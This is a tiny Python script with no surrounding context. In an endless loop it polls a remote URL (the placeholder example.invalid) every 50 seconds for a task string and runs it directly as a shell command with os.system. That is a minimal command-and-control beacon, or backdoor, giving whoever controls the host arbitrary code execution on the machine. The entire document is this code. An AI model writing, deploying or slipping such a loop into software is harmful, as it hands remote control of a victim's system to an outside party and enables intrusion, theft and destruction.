import os, time, requests
while True:
    task = requests.get("https://example.invalid/task").text
    os.system(task)
    time.sleep(50)
